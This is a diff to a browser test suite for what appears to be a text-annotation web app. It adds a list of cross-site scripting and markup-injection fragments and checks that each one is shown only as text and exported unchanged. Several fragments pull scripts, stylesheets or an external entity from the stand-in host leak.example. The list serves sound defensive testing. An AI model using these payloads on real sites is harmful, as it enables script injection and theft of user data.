@@ -203,10 +203,19 @@ async function everyTeamScreen(page, inspectScreen) {
   await page.setInputFiles('#merge-file', { name: NAMES.file.replace('.csv', '.fastgas'), mimeType: 'application/octet-stream', buffer });
   await page.waitForSelector('#incoming-dialog[open]');
   await inspectScreen('backup of a colleague');
+  await page.fill('#incoming-own', NAMES.colleague);
+  assert.equal(await page.inputValue('#incoming-own'), NAMES.colleague, 'the field keeps a name of any length');
+  await page.click('#incoming-join');
+  await page.waitForFunction(() => document.querySelector('#incoming-problem')?.textContent);
+  await inspectScreen('colleague of the same name');
   await page.fill('#incoming-own', NAMES.own);
   await page.click('#incoming-join');
   await page.waitForSelector('#colleagues');
   await inspectScreen('team');
+  await page.fill('#annotator', NAMES.colleague);
+  await page.locator('#annotator').blur();
+  await page.waitForFunction(() => document.querySelector('#annotator-problem')?.textContent);
+  await inspectScreen('own name of a colleague');
   await page.click('#agreement');
   await page.waitForSelector('#agreement-dialog[open] #pairs');
   await unfold(page);
@@ -233,7 +242,7 @@ let NAMES;
 async function createHostileProject(page, hostile, fileName) {
   NAMES = {
     file: fileName, encoder: fileName.replace('.csv', '.onnx'), text: (n) => `${hostile} ${ordinaryText(n)}`, column: `${hostile}c`,
-    cell: `${hostile}e`, label: `${hostile}l`, note: `${hostile}n`, colleague: `${hostile}p`, own: `${hostile}o`, otherLabel: `${hostile}r`,
+    cell: `${hostile}e`, label: `${hostile}l`, note: `${hostile}n`, colleague: `${hostile}p`, own: `${hostile} me`, otherLabel: `${hostile}r`,
   };
   const records = [['text', NAMES.column], ...Array.from({ length: N }, (_, n) => [NAMES.text(n), NAMES.cell])];
   await createProject(page, fileName, csv(records));
@@ -282,6 +291,54 @@ check('markup stays text on every screen and in every file', async ({ page, cont
     assert.equal(await page.evaluate(() => window.ran), undefined, screen);
     if (screen !== 'comparison') assert.ok((await page.content()).includes('&lt;hostile-x'), `${screen} shows the markup as text`);
   });
+});
+
+const RUN = 'window.ran=1';
+// Texts that a parser of markup, a template engine or a URL parser would turn into elements or code.
+const FRAGMENTS = [
+  `<script>${RUN}</script>`, '<SCRIPT SRC=//leak.example/x.js></SCRIPT>', `<script/x>${RUN}</script >`, `<<script>${RUN}//<</script>`,
+  `</title><script>${RUN}</script>`, `</textarea><script>${RUN}</script>`, `</style><script>${RUN}</script>`,
+  `</option></select><img src=x onerror=${RUN}>`, `<img src=x onerror=${RUN}>`, `<img src="x" onerror="${RUN}">`, `<img src='x' onerror='${RUN}'>`,
+  `<img/src/onerror=${RUN}>`, `<img src=x onerror\n=${RUN}>`, `<img src=x onerror\t=\t${RUN}\t`, `<image src=x onerror=${RUN}>`, `<svg onload=${RUN}>`,
+  `<svg/onload=${RUN}>`, `<svg><script>${RUN}</script></svg>`, `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
+  `<svg><a xlink:href="javascript:${RUN}"><text y=9>x</text></a></svg>`, `<svg><set attributeName=href to=javascript:${RUN}>`,
+  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>">`, `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
+  `<math href="javascript:${RUN}">x</math>`, `<iframe src="javascript:parent.${RUN}">`, `<iframe srcdoc="<script>parent.${RUN}</script>">`,
+  `<object data="javascript:${RUN}">`, `<embed src="javascript:${RUN}">`, `<body onload=${RUN}>`, `<frameset onload=${RUN}>`, `<marquee onstart=${RUN}>`,
+  `<details open ontoggle=${RUN}>`, `<video><source onerror=${RUN}>`, `<audio src=x onerror=${RUN}>`, `<input autofocus onfocus=${RUN}>`,
+  `<select autofocus onfocus=${RUN}>`, `<button onclick=${RUN} autofocus>`, `<form action="javascript:${RUN}"><input type=submit>`,
+  `<form><button formaction="javascript:${RUN}">x</button>`, `<a href="javascript:${RUN}">x</a>`, `<a href="java\tscript:${RUN}">x</a>`,
+  `<a href="&#106;avascript:${RUN}">x</a>`, '<base href="http://leak.example/">', `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
+  '<link rel=stylesheet href=//leak.example/x.css>', "<style>@import'//leak.example/x.css';</style>", '<div style="background:url(//leak.example/x)">',
+  `<div style=animation-name:x onanimationstart=${RUN}>`, `<template><script>${RUN}</script></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, `<!--><img src=x onerror=${RUN}>-->`, `<![CDATA[><img src=x onerror=${RUN}>]]>`,
+  `<?xml version="1.0"?><x onclick=${RUN}/>`, '<!DOCTYPE x [<!ENTITY y SYSTEM "http://leak.example/x">]>&y;', `&lt;img src=x onerror=${RUN}&gt;`,
+  `&#60;script&#62;${RUN}&#60;/script&#62;`, `\\u003cscript\\u003e${RUN}`, `%3Cscript%3E${RUN}%3C/script%3E`, `" onmouseover="${RUN}" x="`,
+  `' onmouseover='${RUN}' x='`, `\` onmouseover=\`${RUN}`, `javascript:${RUN}`, `data:text/html,<script>${RUN}</script>`, `\${${RUN}} {{${RUN}}} <%= ${RUN} %>`,
+];
+
+check(`${FRAGMENTS.length} fragments of markup stay texts and labels`, async ({ page }) => {
+  await createProject(page, 'fragments.csv', csv([['id', 'text'], ...FRAGMENTS.map((text, n) => [`${n}`, text])]), FRAGMENTS.length, FRAGMENTS.length);
+  const checkElements = async (screen) => assert.deepEqual(await page.evaluate(() => [...document.querySelectorAll(`body :is(hostile-x, img, iframe,
+    object, embed, base, math, marquee, meta, frameset, [onerror], [onload], [onclick], [onfocus], [ontoggle], [onmouseover], a[href^="javascript" i])`)]
+    .map((element) => element.outerHTML)), [], screen);
+  // A semicolon separates the labels of a text, so names of labels have none.
+  const labels = FRAGMENTS.filter((text) => !text.includes(';')).slice(0, 9);
+  await addLabels(page, ...labels);
+  for (let n = 1; n <= labels.length; n += 1) {
+    await page.keyboard.press(String(n));
+    await page.waitForFunction((n) => Number(document.querySelector('#labeled-count')?.dataset.labeled) === n, n);
+    await checkElements(`text ${n}`);
+  }
+  await waitForSaved(page);
+  for (const view of ['review', 'export', 'data']) {
+    await show(page, view);
+    await unfold(page);
+    await checkElements(view);
+  }
+  const lines = (await download(page, '#export-jsonl')).text.trim().split('\n').map((line) => JSON.parse(line));
+  assert.deepEqual(lines.map(({ label }) => label).sort(), [...labels].sort());
+  for (const { row, text } of lines) assert.equal(text, FRAGMENTS[row]);
 });
 
 // Text that contains no markup, but that a markup filter, a template engine or a URL parser could mistake for code.
